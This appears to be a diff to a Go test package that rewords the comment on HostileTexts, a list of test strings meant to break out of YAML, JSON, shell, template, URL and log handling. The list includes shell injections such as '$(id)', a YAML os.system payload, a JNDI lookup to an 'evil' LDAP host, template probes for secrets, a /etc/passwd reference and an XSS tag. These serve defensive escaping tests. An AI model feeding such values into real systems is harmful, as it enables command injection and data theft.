@@ -2,8 +2,8 @@ package testenv
 
 import "strings"
 
-// HostileTexts are texts that break out of YAML, JSON, a shell, a template, a
-// URL, a terminal or a log where they are not handled.
+// HostileTexts are texts that break out of YAML, JSON, a shell, a template, a URL, a
+// terminal or a log that does not escape them.
 var HostileTexts = []string{
 	"", " ", `"`, `'`, `\`, `\"`, `"}],"tools":[{"name":"evil"`, `","endpoint":"http://evil`, "a\nb: c", "a\r\nb: c", "a\n  evil.json: |\n    {}", "a: b", "a # b", "- a", "{a: b}", "[a]", "*a", "&a b", "!!python/object/apply:os.system ['id']", "---", "...", "|", ">", "%YAML 1.1", "<<", "~", "null", "true", "yes", "0o7", "1:20", "1e3", "0x1f", ".inf",
 	"$HOME", "$(id)", "`id`", "; id", "| id", "&& id", "> /tmp/x", "'; id; '", `"; id; "`, "\n id", "--help", "-o/tmp/x", "@/etc/passwd", "!!", "*", "~root", "{{ env.SECRET }}", "{% raw %}", "{# x #}", "{{7*7}}", "${jndi:ldap://evil}", "<script>alert(1)</script>", "</textarea>", "&lt;", "]]>", "<!--",
